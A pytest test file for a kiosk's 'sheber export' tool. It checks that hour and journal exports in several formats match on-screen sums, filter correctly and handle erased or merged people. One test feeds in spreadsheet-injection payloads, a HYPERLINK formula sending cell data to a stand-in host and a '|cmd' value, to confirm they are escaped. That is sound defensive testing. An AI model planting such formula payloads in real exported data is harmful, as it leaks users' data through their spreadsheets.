"""`sheber export`: files parsed back, with the sums of the pages, in any form, beside a kiosk that writes."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from export_fixtures import DAYS, FORMS, a_month, lines, made, objects, paper, refused, sheber
from openpyxl import load_workbook
from test_staff_paper_story import (
    GROUP,
    MINUTE,
    PAPERS,
    ZONE,
    Month,
    clock,
    decided_ms,
    journal_ms,
    sums_on_screen,
)

from kiosk.commands import DecideSession, ErasePerson, ImportPeople, MergePeople, PersonRow
from kiosk.reports.export import Export, export
from kiosk.reports.period import Period
from kiosk.reports.source import Source
from kiosk.store.schema import one_moment, open_reader, write
from kiosk.words import hours_minutes, words

NOVEMBER = ("--from", "2026-11-01", "--to", "2026-11-30")
DECEMBER = ("--from", "2026-12-01", "--to", "2026-12-31")


@pytest.fixture(scope="module")
def month(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Month]:
    """A month of lessons at a kiosk that runs; nobody changes it."""
    with closing(a_month(tmp_path_factory.mktemp("month"))) as made:
        yield made


@pytest.fixture
def staff(tmp_path: Path) -> Iterator[Month]:
    """The same, to be changed."""
    with closing(a_month(tmp_path)) as made:
        yield made


def of_csv(path: Path) -> list[dict[str, str]]:
    """The rows of the first table under their headings, the sums last."""
    found = lines(path)
    heading, rows = found[0], found[1 : found.index([])]
    return [dict(zip(heading, row, strict=True)) for row in rows]


def of_workbook(path: Path) -> list[dict[str, Any]]:
    rows = list(load_workbook(path).worksheets[0].values)
    top = next(place for place, row in enumerate(rows) if row[0] == "Id")
    end = next(place for place, row in enumerate(rows) if row[1] == "In all") + 1
    return [dict(zip(map(str, rows[top]), row, strict=True)) for row in rows[top + 1 : end]]


# --- the same sums as on screen


def test_the_hours_of_a_group_add_up_to_the_journal_on_screen_in_every_month(month: Month, tmp_path: Path) -> None:
    for days, name in ((NOVEMBER, "2026-11"), (DECEMBER, "2026-12")):
        found = objects(made(month, tmp_path / "hours.jsonl", "hours", "jsonl", *days))
        group = [each for each in found if each["group"] == GROUP]
        approved, waiting = (sum(each[key] for each in group) for key in ("approved_ms", "waiting_ms"))
        assert approved == journal_ms(month, name)
        on_screen = sums_on_screen(month.client(), name)
        assert (hours_minutes(approved), hours_minutes(waiting)) == (on_screen[0], on_screen[2])


def test_a_session_over_midnight_counts_in_either_export_with_its_own_share(month: Month, tmp_path: Path) -> None:
    november, december = (
        {each["session"]: each for each in objects(made(month, tmp_path / "h", "hours", "jsonl", *days))}
        for days in (NOVEMBER, DECEMBER)
    )
    (night,) = set(november) & set(december)
    assert december[night]["approved_ms"] == 70 * MINUTE
    both = november[night]["approved_ms"] + december[night]["approved_ms"]
    assert both == november[night]["decided_credited_ms"] == december[night]["decided_credited_ms"]
    assert november[night]["presence_ms"] == december[night]["presence_ms"] == 150 * MINUTE


def test_every_form_of_the_hours_says_the_same(month: Month, tmp_path: Path) -> None:
    known = objects(made(month, tmp_path / "hours.jsonl", "hours", "jsonl"))
    assert sum(each["approved_ms"] for each in known) == decided_ms(month)
    table = of_csv(made(month, tmp_path / "hours.csv", "hours", "csv"))
    sheet = of_workbook(made(month, tmp_path / "hours.xlsx", "hours", "xlsx"))
    assert len(known) == len(table) - 1 == len(sheet) - 1
    for heading, key in (
        ("Presence, h", "presence_ms"), ("Credited, h", "credited_ms"), ("Approved, h", "approved_ms"),
        ("Waiting, h", "waiting_ms"), ("Unverified, h", "unverified_ms"),
    ):  # fmt: skip
        total = hours_minutes(sum(each[key] for each in known))
        assert [each[heading] for each in table] == [*(hours_minutes(each[key]) for each in known), total]
        assert clock(sheet[-1][heading]) == total
    running = sum(each["by_state_ms"].get("running", 0) for each in known)
    assert table[-1]["running"] == clock(sheet[-1]["running"]) == hours_minutes(running)
    text = paper(made(month, tmp_path / "hours.pdf", "hours", "pdf"))
    assert hours_minutes(decided_ms(month)) in text.split("In all")[-1]


def test_a_row_tells_who_when_where_and_what_was_decided(month: Month, tmp_path: Path) -> None:
    first, *_ = objects(made(month, tmp_path / "hours.jsonl", "hours", "jsonl"))
    start = int(datetime(2026, 11, 19, 9, tzinfo=ZONE).timestamp() * 1000)
    assert first | {
        "kind": "session", "person": "p1", "name": "Ахметова Айгерім", "group": GROUP, "programme": "cnc",
        "enterprise": "ent-steel", "machine": "mill-1", "process": "CNC3", "role": "operator",
        "local_date": "2026-11-19", "start": "2026-11-19T04:00:00.000Z", "start_ms": start, "reason": "tap_out",
        "evidence": "badge+machine", "review": "adjusted", "decided_by": "Жұмабаев Қанат",
        "decided_credited_ms": 33 * MINUTE, "approved_ms": 33 * MINUTE, "waiting_ms": 0,
    } == first  # fmt: skip
    assert first["log"].startswith("test-w1/")
    assert all(
        type(value) is int for key, value in first.items() if key.endswith("_ms") and not isinstance(value, dict)
    )
    row, *_ = of_csv(made(month, tmp_path / "hours.csv", "hours", "csv", "--language", "kk"))
    assert {"p1", "Ахметова Айгерім", "Фрезер", "19.11.2026 09:00"} <= set(row.values())
    sheet, *_ = of_workbook(made(month, tmp_path / "hours.xlsx", "hours", "xlsx"))
    assert sheet["Start"] == datetime(2026, 11, 19, 9)  # a spreadsheet knows no zone
    assert sheet["Decided on"].date() == date(2026, 12, 2)


def test_the_journal_is_the_one_on_screen_by_group_and_month(month: Month, tmp_path: Path) -> None:
    client = month.client()
    table = lines(made(month, tmp_path / "journal.csv", "journal", "csv"))
    titles = [row[0] for row in table if len(row) == 1 and GROUP in row[0]]
    assert titles == [f"{GROUP} · November 2026", f"{GROUP} · December 2026"]
    in_all = [row for row in table if row[1:2] == ["In all"]]
    book = load_workbook(made(month, tmp_path / "journal.xlsx", "journal", "xlsx"))
    text = paper(made(month, tmp_path / "journal.pdf", "journal", "pdf"))
    known = objects(made(month, tmp_path / "journal.jsonl", "journal", "jsonl"))
    for place, name in ((0, "2026-11"), (1, "2026-12")):
        on_screen = sums_on_screen(client, name)
        assert tuple(in_all[place][-3:]) == on_screen
        sheet = next(row for row in book.worksheets[place].values if row[1] == "In all")
        assert (clock(sheet[-3]), clock(sheet[-1])) == (on_screen[0], on_screen[2])
        assert " ".join(on_screen) in " ".join(text.split("In all")[1 + place].split())
        of_month = [each for each in known if (each["month"], each["group"]) == (name, GROUP)]
        days = [ms for each in of_month for ms in each["days_ms"].values()]
        assert sum(days) == sum(each["approved_ms"] for each in of_month) == journal_ms(month, name)
    assert "Өтегенова Ұлжан" in text


def test_the_days_of_the_journal_are_those_asked_for(month: Month, tmp_path: Path) -> None:
    days = ("--from", "2026-11-23", "--to", "2026-11-24")
    found = objects(made(month, tmp_path / "journal.jsonl", "journal", "jsonl", *days))
    assert {day for each in found for day in each["days_ms"]} == {"2026-11-23", "2026-11-24"}


# --- whose


def test_one_person_or_one_enterprise_is_all_there_is(month: Month, tmp_path: Path) -> None:
    for kind in ("hours", "journal"):
        one = objects(made(month, tmp_path / "one", kind, "jsonl", "--person", "p3"))
        assert {each["person"] for each in one} == {"p3"}
        some = objects(made(month, tmp_path / "some", kind, "jsonl", "--enterprise", "ent-steel"))
        assert {each["enterprise"] for each in some} == {"ent-steel"}
        every = objects(made(month, tmp_path / "every", kind, "jsonl"))
        assert [each for each in every if each["person"] == "p3"] == one
        assert [each for each in every if each["enterprise"] == "ent-steel"] == some
    text = paper(made(month, tmp_path / "one.pdf", "journal", "pdf", "--person", "p3", "--enterprise", "ent-steel"))
    assert "Өтегенова Ұлжан · Demo Steel" in text
    assert "Иванов" not in text


def test_who_is_not_known_is_said_and_no_file_is_made(month: Month, tmp_path: Path) -> None:
    out = tmp_path / "hours.csv"
    asked = ("hours", *DAYS, "--format", "csv", "--out", out)
    assert "there is no person 'p9'" in refused(sheber(*asked, "--person", "p9", data=month.folder))
    assert "there is no enterprise 'steel'" in refused(sheber(*asked, "--enterprise", "steel", data=month.folder))
    both = sheber(*asked, "--person", "i1", "--enterprise", "ent-steel", data=month.folder)
    assert "'i1' is not with the enterprise" in refused(both)
    assert not out.exists()


def test_an_instructor_has_no_hours_and_gets_an_empty_table(month: Month, tmp_path: Path) -> None:
    (sums,) = of_csv(made(month, tmp_path / "hours.csv", "hours", "csv", "--person", "i1"))
    assert (sums["Full name"], sums["Presence, h"]) == ("In all", "0:00")


@pytest.mark.parametrize("form", FORMS)
def test_who_was_erased_is_nameless_and_the_hours_stay(staff: Month, tmp_path: Path, form: str) -> None:
    before = sum(each["presence_ms"] for each in objects(made(staff, tmp_path / "before", "hours", "jsonl")))
    staff.submit(ErasePerson("p2", staff.by("admin")))
    for kind in ("hours", "journal"):
        path = made(staff, tmp_path / f"{kind}.{form}", kind, form)
        text = paper(path) if form == "pdf" else path.read_bytes().decode(errors="ignore")
        if form == "xlsx":
            text = str([list(sheet.values) for sheet in load_workbook(path).worksheets])
        assert "Иванов" not in text
        assert "p2" not in text
    found = objects(made(staff, tmp_path / "after", "hours", "jsonl"))
    assert sum(each["presence_ms"] for each in found) == before
    nameless = [each for each in found if each["person"] is None]
    assert nameless
    assert all(each["name"] is each["group"] is each["enterprise"] is None for each in nameless)


def test_two_rows_of_one_person_are_one_person(staff: Month, tmp_path: Path) -> None:
    both = [
        each["session"]
        for each in objects(made(staff, tmp_path / "before", "hours", "jsonl"))
        if each["person"] in {"p1", "p3"}
    ]
    staff.submit(MergePeople("p1", "p3", staff.by("admin")))
    found = objects(made(staff, tmp_path / "after", "hours", "jsonl", "--person", "p1"))
    assert [each["session"] for each in found] == both
    assert {each["name"] for each in found} == {"Ахметова Айгерім"}
    asked = ("hours", *DAYS, "--format", "csv", "--out", tmp_path / "x", "--person", "p3")
    assert "'p3' was merged with 'p1'" in refused(sheber(*asked, data=staff.folder))


def test_a_name_that_is_a_formula_is_text_wherever_it_stands(staff: Month, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    row = PersonRow("@p3", "apprentice", evil, "+1+1", badges=("67003B51CA",), **{**PAPERS, "group": "-2+3|cmd"})
    staff.submit(ImportPeople((row,)))
    staff.works(row, 5)
    for kind in ("hours", "journal"):
        for row_of_texts in lines(made(staff, tmp_path / "evil.csv", kind, "csv")):
            assert not [text for text in row_of_texts if text[:1] in {"=", "+", "-", "@", "\t", "\r"}]
        book = load_workbook(made(staff, tmp_path / "evil.xlsx", kind, "xlsx"))
        cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
        assert not [cell for cell in cells if cell.data_type == "f"]
        assert any(str(cell.value).startswith("'=HYPERLINK") for cell in cells)
    found = objects(made(staff, tmp_path / "evil.jsonl", "hours", "jsonl", "--person", "@p3"))
    assert found[-1]["name"] == f"{evil} +1+1"


# --- what the data folder knows


def test_the_data_folder_alone_knows_names_zone_and_academic_hour(month: Month, tmp_path: Path) -> None:
    text = paper(made(month, tmp_path / "journal.pdf", "journal", "pdf"))
    assert "Workshop 1" in text
    assert "1 ac. h = 40 min" in text


def test_without_names_there_are_ids_and_the_right_zone_and_it_is_said(staff: Month, tmp_path: Path) -> None:
    with write(staff.desk.connection) as connection:
        connection.execute("DELETE FROM meta WHERE key = 'workshop'")
    result = sheber("hours", *DAYS, "--format", "csv", "--out", tmp_path / "hours.csv", data=staff.folder)
    assert result.exit_code == 0
    assert "45 min are taken" in result.stderr
    row, *_ = of_csv(tmp_path / "hours.csv")
    assert (row["Machine"], row["Work process"], row["Enterprise"]) == ("mill-1", "CNC3", "ent-steel")
    assert row["Start"] == "19.11.2026 09:00"
    named = made(staff, tmp_path / "named.csv", "hours", "csv", "--lab", tmp_path / "lab" / "lab.toml")
    assert of_csv(named)[0]["Machine"] == "Mill"


def test_a_lab_of_another_name_or_with_a_slip_is_refused(month: Month, tmp_path: Path) -> None:
    lab = tmp_path / "lab.toml"
    asked = ("hours", *DAYS, "--format", "csv", "--out", tmp_path / "hours.csv", "--lab", lab)
    lab.write_text('[lab]\nid = "w9"\n')
    assert "describes the workshop w9, but the data is of test-w1" in refused(sheber(*asked, data=month.folder))
    lab.write_text('[lab]\nidd = "w9"\n')
    assert "idd" in refused(sheber(*asked, data=month.folder), 78)


def test_a_folder_without_a_kiosks_data_is_said(tmp_path: Path) -> None:
    asked = ("journal", *DAYS, "--format", "csv", "--out", tmp_path / "x")
    assert "there is no database" in refused(sheber(*asked, data=tmp_path / "none"))
    assert "--data" in refused(sheber(*asked), 2)


def test_it_works_while_no_kiosk_runs(tmp_path: Path) -> None:
    with closing(a_month(tmp_path)) as staff:
        pass
    assert len(objects(made(staff, tmp_path / "hours.jsonl", "hours", "jsonl"))) > 30


def test_all_of_it_is_of_one_moment_whatever_the_kiosk_writes_meanwhile(staff: Month, tmp_path: Path) -> None:
    before = objects(made(staff, tmp_path / "before", "hours", "jsonl"))
    night = before[-1]["session"]
    done: list[int] = []

    def decides(month: int, _of: int) -> None:
        done.append(month)
        staff.submit(DecideSession(night, "adjusted", staff.by("lead"), "other", f"№{month}", (month + 1) * MINUTE))

    with closing(open_reader(staff.database)) as connection, one_moment(connection):
        source = Source(connection, staff.lab, words("en"), staff.clock.wall_ms())
        asked = Export("hours", Period(date(2026, 11, 1), date(2026, 12, 31)), "jsonl")
        with (tmp_path / "during").open("wb") as out:
            export(source, asked, out, tmp_path, decides)
    assert done == [0, 1, 2]
    assert objects(tmp_path / "during") == before
    assert objects(made(staff, tmp_path / "after", "hours", "jsonl"))[-1]["approved_ms"] == 3 * MINUTE
